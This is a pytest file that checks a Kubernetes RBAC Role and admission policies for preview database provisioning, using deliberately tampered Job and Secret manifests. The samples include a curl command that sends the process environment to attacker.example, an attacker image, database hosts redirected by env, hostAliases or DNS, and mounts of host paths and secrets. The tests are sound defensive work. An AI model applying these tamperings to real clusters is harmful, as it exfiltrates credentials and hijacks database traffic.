"""A preview role makes its provisioner Job and Secret in the base's provisioning namespace, and
nothing else there; it has nothing at all in the base namespace (infra/provisioning_access.py).

The admission policies' CEL is evaluated here with cel-python: the expressions keep to standard
CEL, which both it and Kubernetes evaluate. The objects judged are the preview stack's own
(the provisioner Job and its Secret as rendered, the drop Job as its database resource would
run it), pointed at staging's values the way a real preview's StackReference would, and copies
of them with one thing changed each.
"""

from __future__ import annotations

import copy
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import celpy
import pytest
import yaml

from infra.cluster import PREVIEW_GROUP
from infra.config import DEFAULT_KUBERNETES_VERSION
from infra.plan import Plan, render
from infra.provisioning_access import BaseValues, provisioning_namespace, validations
from tests.infra.conftest import of_kind, one
from tests.infra.test_cluster import ACCESS
from tests.infra.test_preview_db import (  # noqa: F401 - `registered` is a fixture
    Registered,
    database_resource,
    drop_job_of,
    registered,
)
from tests.infra.test_preview_provisioner import BASE_NAMESPACE, PROVISIONING_NAMESPACE

ACCESS_KINDS = {
    "Role",
    "RoleBinding",
    "ValidatingAdmissionPolicy",
    "ValidatingAdmissionPolicyBinding",
}
Manifest = dict[str, Any]
ROLE = "record-preview-db-provisioning"


@pytest.fixture(scope="module")
def with_access() -> Plan:
    return render("staging", {"record:cluster": ACCESS})


def _policy(plan: Plan) -> Manifest:
    return one(
        m
        for m in of_kind(plan, "ValidatingAdmissionPolicy")
        if m["metadata"]["name"].startswith("record-preview-db-provisioning-")
    )


def _cluster_policy(plan: Plan) -> Manifest:
    return one(
        m
        for m in of_kind(plan, "ValidatingAdmissionPolicy")
        if m["metadata"]["name"] == "record-previews-stay-in-their-namespaces"
    )


def _container(job: Manifest) -> Manifest:
    return dict(job["spec"]["template"]["spec"]["containers"][0])


def _staging_values(plan: Plan) -> BaseValues:
    """What staging's own migration Job bootstraps its database with: its image, RDS and
    master secret."""
    migrate = one(
        m for m in of_kind(plan, "Job") if m["metadata"]["name"].startswith("record-migrate")
    )
    (bootstrap,) = migrate["spec"]["template"]["spec"]["initContainers"]
    env = {e["name"]: e["value"] for e in bootstrap["env"]}
    return BaseValues(
        namespace=provisioning_namespace(migrate["metadata"]["namespace"]),
        image=bootstrap["image"],
        db_host=env["DB_HOST"],
        db_port=env["DB_PORT"],
        db_master_secret_arn=env["DB_MASTER_SECRET_ARN"],
        region="eu-west-1",
    )


def _on_staging(job: Manifest, base: BaseValues) -> Manifest:
    """The preview's Job as it is made against staging: the offline plan's StackReference
    answers placeholders for the base's outputs."""
    job = copy.deepcopy(job)
    pod = job["spec"]["template"]["spec"]
    assert job["metadata"]["namespace"] == PROVISIONING_NAMESPACE == base.namespace
    pod["serviceAccountName"] = "record-db-provisioner"
    container = pod["containers"][0]
    container["image"] = base.image
    for variable in container["env"]:
        staging = {
            "DB_HOST": base.db_host,
            "DB_PORT": base.db_port,
            "DB_MASTER_SECRET_ARN": base.db_master_secret_arn,
        }
        variable["value"] = staging.get(variable["name"], variable["value"])
    return job


def _request(manifest: Manifest, operation: str = "CREATE") -> Manifest:
    group, _, _ = manifest["apiVersion"].rpartition("/")
    return {
        "operation": operation,
        "name": manifest["metadata"]["name"],
        "namespace": manifest["metadata"]["namespace"],
        "subResource": "",
        "resource": {
            "group": group,
            "version": manifest["apiVersion"].rpartition("/")[2],
            "resource": {"Job": "jobs", "Secret": "secrets"}[manifest["kind"]],
        },
        "userInfo": {"username": "preview", "groups": [PREVIEW_GROUP, "system:authenticated"]},
    }


def _true(verdict: object) -> bool:
    # cel-python answers its own BoolType (an int subclass); an error is no answer.
    return isinstance(verdict, celpy.celtypes.BoolType) and bool(verdict)


class Policy:
    """A ValidatingAdmissionPolicy's match conditions and validations, compiled."""

    def __init__(self, manifest: Manifest) -> None:
        env = celpy.Environment()
        spec = manifest["spec"]
        self.conditions = [
            env.program(env.compile(c["expression"])) for c in spec["matchConditions"]
        ]
        self.rules = [
            (v["message"], env.program(env.compile(v["expression"]))) for v in spec["validations"]
        ]

    def refusals(self, request: Manifest, obj: Manifest | None) -> list[str]:
        """The messages of the rules that refuse (an error refuses: failurePolicy Fail)."""
        activation = {
            "request": celpy.json_to_cel(request),
            "object": celpy.json_to_cel(obj),
            "oldObject": celpy.json_to_cel(None),
        }
        if not all(_true(c.evaluate(activation)) for c in self.conditions):
            return []
        refused = []
        for message, program in self.rules:
            try:
                verdict = program.evaluate(activation)
            except celpy.CELEvalError as exc:
                verdict = exc
            if not _true(verdict):
                refused.append(message)
        return refused


@pytest.fixture(scope="module")
def base(with_access: Plan) -> BaseValues:
    return _staging_values(with_access)


@pytest.fixture(scope="module")
def policy(with_access: Plan) -> Policy:
    return Policy(_policy(with_access))


@pytest.fixture(scope="module")
def cluster_policy(with_access: Plan) -> Policy:
    return Policy(_cluster_policy(with_access))


@pytest.fixture(scope="module")
def objects(
    plans: dict[str, Plan],
    registered: list[Registered],  # noqa: F811 - the fixture imported above
    base: BaseValues,
) -> dict[str, Manifest]:
    """The preview's provisioner Job, drop Job and Secret, pointed at staging."""
    preview = plans["preview"]
    there = [
        m for m in preview.manifests if m["metadata"].get("namespace") == PROVISIONING_NAMESPACE
    ]
    job = one(m for m in there if m["kind"] == "Job")
    secret = one(m for m in there if m["kind"] == "Secret")
    drop = drop_job_of(database_resource(registered))
    return {
        "job": _on_staging(job, base),
        "drop": _on_staging(drop, base),
        "secret": secret,
    }


# -- the objects exist and Kubernetes would take them -------------------------------------------


def test_the_group_may_write_jobs_and_secrets_in_the_provisioning_namespace(
    with_access: Plan,
) -> None:
    role = one(m for m in of_kind(with_access, "Role") if m["metadata"]["name"] == ROLE)
    binding = one(
        m
        for m in of_kind(with_access, "RoleBinding")
        if any(s["name"] == PREVIEW_GROUP for s in m["subjects"])
    )
    assert (
        role["metadata"]["namespace"] == binding["metadata"]["namespace"] == PROVISIONING_NAMESPACE
    )
    assert binding["roleRef"] == {
        "apiGroup": "rbac.authorization.k8s.io",
        "kind": "Role",
        "name": role["metadata"]["name"],
    }
    assert binding["subjects"] == [
        {"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": PREVIEW_GROUP}
    ]
    granted = {
        (g, r): set(rule["verbs"])
        for rule in role["rules"]
        for g in rule["apiGroups"]
        for r in rule["resources"]
    }
    assert granted == {
        ("batch", "jobs"): {"create", "get", "list", "watch", "patch", "update", "delete"},
        # No list: Secrets are read by name only.
        ("", "secrets"): {"create", "get", "patch", "update", "delete"},
        # Pulumi's and kubectl's wait, `kubectl logs job/...` (infra/preview_db.py).
        ("", "pods"): {"get", "list", "watch"},
        ("", "pods/log"): {"get"},
    }


def test_the_group_has_nothing_in_the_base_namespace(with_access: Plan) -> None:
    """RBAC cannot narrow a ``get`` to a name pattern: a Role in the base namespace would let a
    leaked preview role read record-secrets and the record-db-* passwords."""
    roles = [m["metadata"] for m in of_kind(with_access, "Role")]
    assert (ROLE, PROVISIONING_NAMESPACE) in [(r["name"], r["namespace"]) for r in roles]
    assert ROLE not in [r["name"] for r in roles if r["namespace"] == BASE_NAMESPACE]
    bound = [
        m["metadata"]
        for m in of_kind(with_access, "RoleBinding")
        if any(s["name"] == PREVIEW_GROUP for s in m["subjects"])
    ]
    assert [(b["name"], b["namespace"]) for b in bound] == [(ROLE, PROVISIONING_NAMESPACE)]


def test_the_provisioning_namespace_holds_the_provisioner_and_its_access_alone(
    with_access: Plan,
) -> None:
    there = {
        (m["kind"], m["metadata"]["name"])
        for m in with_access.manifests
        if m["metadata"].get("namespace") == PROVISIONING_NAMESPACE
    }
    assert there == {
        ("ServiceAccount", "record-db-provisioner"),
        ("NetworkPolicy", "record-db-provisioner"),
        ("NetworkPolicy", "record-default-deny"),
        ("NetworkPolicy", "record-allow-dns"),
        ("Role", ROLE),
        ("RoleBinding", ROLE),
    }


def test_the_policy_binds_the_group_in_the_provisioning_namespace(
    with_access: Plan, base: BaseValues
) -> None:
    manifest = _policy(with_access)
    spec = manifest["spec"]
    assert spec["failurePolicy"] == "Fail"
    constraints = spec["matchConstraints"]
    assert constraints["namespaceSelector"] == {
        "matchLabels": {"kubernetes.io/metadata.name": PROVISIONING_NAMESPACE}
    }
    # Named by the base, as before the move: the policy is updated in place, not replaced.
    assert manifest["metadata"]["name"] == f"{ROLE}-{BASE_NAMESPACE}"
    rules = {(r["apiGroups"][0], r["resources"][0]) for r in constraints["resourceRules"]}
    assert rules == {("batch", "jobs"), ("", "secrets")}
    for rule in constraints["resourceRules"]:
        assert set(rule["operations"]) == {"CREATE", "UPDATE", "DELETE"}
    # The expressions carry staging's own values, as its migration Job bootstraps with them.
    assert [(v["expression"], v["message"]) for v in spec["validations"]] == validations(base)
    binding = one(
        m
        for m in of_kind(with_access, "ValidatingAdmissionPolicyBinding")
        if m["spec"]["policyName"] == manifest["metadata"]["name"]
    )
    assert binding["spec"]["validationActions"] == ["Deny"]


def test_no_access_without_preview_roles(plans: dict[str, Plan]) -> None:
    names = {m["metadata"]["name"] for m in plans["staging"].manifests}
    assert ROLE not in names
    assert not any(name.startswith(f"{ROLE}-") for name in names)


def test_the_access_objects_match_the_kubernetes_schemas(
    with_access: Plan, tools_bin: Path, tmp_path: Path
) -> None:
    files = []
    for index, manifest in enumerate(with_access.manifests):
        if manifest["kind"] in ACCESS_KINDS and manifest["metadata"]["name"].startswith(
            ("record-preview", "record-previews")
        ):
            path = tmp_path / f"{index}-{manifest['kind']}.yaml"
            path.write_text(yaml.safe_dump(manifest))
            files.append(path)
    # The cluster's own policy and binding besides this base's.
    assert len(files) == len(ACCESS_KINDS) + 2
    result = subprocess.run(
        [
            str(tools_bin / "kubernetes-validate"),
            "--strict",
            "-k",
            f"{DEFAULT_KUBERNETES_VERSION}.0",
            *map(str, files),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    lines = (result.stdout + result.stderr).splitlines()
    passed = [line for line in lines if line.startswith("INFO") and " passed for " in line]
    assert len(passed) == len(files), lines


# -- what the policies let through --------------------------------------------------------------


@pytest.mark.parametrize("name", ["job", "drop", "secret"])
def test_the_previews_own_objects_pass(
    objects: dict[str, Manifest], policy: Policy, cluster_policy: Policy, name: str
) -> None:
    obj = objects[name]
    for operation in ("CREATE", "UPDATE"):
        assert policy.refusals(_request(obj, operation), obj) == []
        assert cluster_policy.refusals(_request(obj, operation), obj) == []
    assert policy.refusals(_request(obj, "DELETE"), None) == []
    assert cluster_policy.refusals(_request(obj, "DELETE"), None) == []


def test_a_secret_as_the_api_server_holds_it_passes(
    objects: dict[str, Manifest], policy: Policy
) -> None:
    # stringData is merged into data before admission sees it.
    secret = copy.deepcopy(objects["secret"])
    secret["data"] = {key: "c2VjcmV0" for key in secret.pop("stringData")}
    assert policy.refusals(_request(secret), secret) == []


def _env(name: str, value: str) -> Callable[[Manifest], None]:
    def change(job: Manifest) -> None:
        container = job["spec"]["template"]["spec"]["containers"][0]
        variables = [e for e in container["env"] if e["name"] != name]
        container["env"] = [*variables, {"name": name, "value": value}]

    return change


def _pod(key: str, value: Any) -> Callable[[Manifest], None]:
    def change(job: Manifest) -> None:
        job["spec"]["template"]["spec"][key] = value

    return change


def _in_container(key: str, value: Any) -> Callable[[Manifest], None]:
    def change(job: Manifest) -> None:
        job["spec"]["template"]["spec"]["containers"][0][key] = value

    return change


def _extra_container(job: Manifest) -> None:
    containers = job["spec"]["template"]["spec"]["containers"]
    containers.append({**containers[0], "name": "sidecar", "command": ["sh"]})


def _init_container(job: Manifest) -> None:
    container = job["spec"]["template"]["spec"]["containers"][0]
    job["spec"]["template"]["spec"]["initContainers"] = [
        {**container, "name": "first", "command": ["sh", "-c", "env"]}
    ]


def _another_preview(job: Manifest) -> None:
    """A Job consistent in itself for pr-7, under pr-0's name."""
    for name, value in (("DB_PREVIEW_NUMBER", "7"), ("DB_NAME", "record_pr_7")):
        _env(name, value)(job)
    _env("DB_OWNER_USER", "record_pr_7")(job)
    _in_container("envFrom", [{"secretRef": {"name": "record-db-provision-pr-7"}}])(job)


def _renamed(job: Manifest) -> None:
    job["metadata"]["name"] = "record-api-debug"


SHELL = ["sh", "-c", "curl https://attacker.example -d @/proc/self/environ"]
# The rule each change must be refused by: a word of its message.
NAME, ACCOUNT, SHAPE, IMAGE = "write only", "runs as", "one container", "API image"
ENV, ENV_FROM = "environment", "Secret alone"
TAMPERED: dict[str, tuple[Callable[[Manifest], None], str]] = {
    "other image": (_in_container("image", "attacker.example/api@sha256:" + "0" * 64), IMAGE),
    "other ServiceAccount": (_pod("serviceAccountName", "record-api"), ACCOUNT),
    "API token mounted": (_pod("automountServiceAccountToken", True), ACCOUNT),
    "extra container": (_extra_container, SHAPE),
    "init container": (_init_container, SHAPE),
    "a shell command": (_in_container("command", SHELL), IMAGE),
    "args": (_in_container("args", ["--drop"]), IMAGE),
    "a postStart hook": (
        _in_container("lifecycle", {"postStart": {"exec": {"command": SHELL}}}),
        IMAGE,
    ),
    "an exec probe": (_in_container("livenessProbe", {"exec": {"command": SHELL}}), IMAGE),
    "DB_HOST changed": (_env("DB_HOST", "db.attacker.example"), ENV),
    "DB_PORT changed": (_env("DB_PORT", "6432"), ENV),
    "master secret changed": (_env("DB_MASTER_SECRET_ARN", "arn:aws:secretsmanager:x"), ENV),
    "PGSSLMODE added": (_env("PGSSLMODE", "disable"), ENV),
    "PYTHONSTARTUP added": (_env("PYTHONSTARTUP", "/tmp/x.py"), ENV),
    "DB_NAME=record": (_env("DB_NAME", "record"), ENV),
    "DB_OWNER_USER=record": (_env("DB_OWNER_USER", "record"), ENV),
    "DB_PREVIEW_NUMBER mismatching the name": (_env("DB_PREVIEW_NUMBER", "7"), ENV),
    "another preview's numbers": (_another_preview, ENV),
    "DB_HOST from a secret": (
        _in_container(
            "env",
            [{"name": "DB_HOST", "valueFrom": {"secretKeyRef": {"name": "x", "key": "host"}}}],
        ),
        ENV,
    ),
    "envFrom another secret": (
        _in_container("envFrom", [{"secretRef": {"name": "record-secrets"}}]),
        ENV_FROM,
    ),
    "envFrom a second source": (
        _in_container(
            "envFrom",
            [
                {"secretRef": {"name": "record-db-provision-pr-0"}},
                {"configMapRef": {"name": "record-config"}},
            ],
        ),
        ENV_FROM,
    ),
    "hostPath volume": (_pod("volumes", [{"name": "tmp", "hostPath": {"path": "/"}}]), SHAPE),
    "secret volume": (
        _pod("volumes", [{"name": "tmp", "secret": {"secretName": "record-secrets"}}]),
        SHAPE,
    ),
    "host network": (_pod("hostNetwork", True), ACCOUNT),
    "a host alias for DB_HOST": (
        _pod("hostAliases", [{"ip": "203.0.113.9", "hostnames": ["record-staging.rds.example"]}]),
        ACCOUNT,
    ),
    "a nameserver of its own": (_pod("dnsConfig", {"nameservers": ["203.0.113.9"]}), ACCOUNT),
    "name outside the pattern": (_renamed, NAME),
}


@pytest.mark.parametrize(("change", "rule"), TAMPERED.values(), ids=TAMPERED.keys())
@pytest.mark.parametrize("name", ["job", "drop"])
def test_a_tampered_job_is_refused(
    objects: dict[str, Manifest],
    policy: Policy,
    name: str,
    change: Callable[[Manifest], None],
    rule: str,
) -> None:
    job = copy.deepcopy(objects[name])
    change(job)
    for operation in ("CREATE", "UPDATE"):
        refusals = policy.refusals(_request(job, operation), job)
        assert any(rule in message for message in refusals), refusals


def _with_key(secret: Manifest) -> None:
    secret["stringData"]["PGHOST"] = "db.attacker.example"


def _token(secret: Manifest) -> None:
    secret["type"] = "kubernetes.io/service-account-token"
    secret["metadata"]["annotations"] = {
        "kubernetes.io/service-account.name": "record-db-provisioner"
    }
    secret.pop("stringData")


PASSWORDS_ALONE = "login passwords alone"
SECRETS: dict[str, tuple[Callable[[Manifest], None], str]] = {
    "an extra key PGHOST": (_with_key, PASSWORDS_ALONE),
    "a ServiceAccount token": (_token, PASSWORDS_ALONE),
    "name outside the pattern": (_renamed, NAME),
}


@pytest.mark.parametrize(("change", "rule"), SECRETS.values(), ids=SECRETS.keys())
def test_a_tampered_secret_is_refused(
    objects: dict[str, Manifest], policy: Policy, change: Callable[[Manifest], None], rule: str
) -> None:
    secret = copy.deepcopy(objects["secret"])
    change(secret)
    refusals = policy.refusals(_request(secret), secret)
    assert any(rule in message for message in refusals), refusals


def test_other_names_in_the_provisioning_namespace_are_refused_by_both(
    objects: dict[str, Manifest], policy: Policy, cluster_policy: Policy
) -> None:
    for obj in objects.values():
        other = copy.deepcopy(obj)
        _renamed(other)
        for operation in ("CREATE", "UPDATE"):
            assert cluster_policy.refusals(_request(other, operation), other)
        assert cluster_policy.refusals(_request(other, "DELETE"), None)
        assert policy.refusals(_request(other, "DELETE"), None)


def test_the_exception_is_the_provisioning_namespace_and_the_objects_alone(
    objects: dict[str, Manifest], cluster_policy: Policy
) -> None:
    job = objects["job"]
    for namespace in ("kube-system", BASE_NAMESPACE):
        elsewhere = copy.deepcopy(job)
        elsewhere["metadata"]["namespace"] = namespace
        assert cluster_policy.refusals(_request(elsewhere), elsewhere), namespace
        # Not even a delete of the provisioner's names: the base namespace is closed to it.
        assert cluster_policy.refusals(_request(elsewhere, "DELETE"), None), namespace
    # Its status, or another kind of the same name (a pod running as the account).
    status = {**_request(job, "UPDATE"), "subResource": "status"}
    assert cluster_policy.refusals(status, job)
    pod = {**_request(job), "resource": {"group": "", "version": "v1", "resource": "pods"}}
    assert cluster_policy.refusals(pod, job)
    # A preview's own namespace stays open to it, and the rule spares other users.
    preview = {**_request(job), "namespace": "record-pr-0"}
    assert cluster_policy.refusals(preview, job) == []
    admin = {**_request(_renamed_copy(job)), "userInfo": {"groups": ["system:masters"]}}
    assert cluster_policy.refusals(admin, job) == []


def _renamed_copy(obj: Manifest) -> Manifest:
    other = copy.deepcopy(obj)
    _renamed(other)
    return other
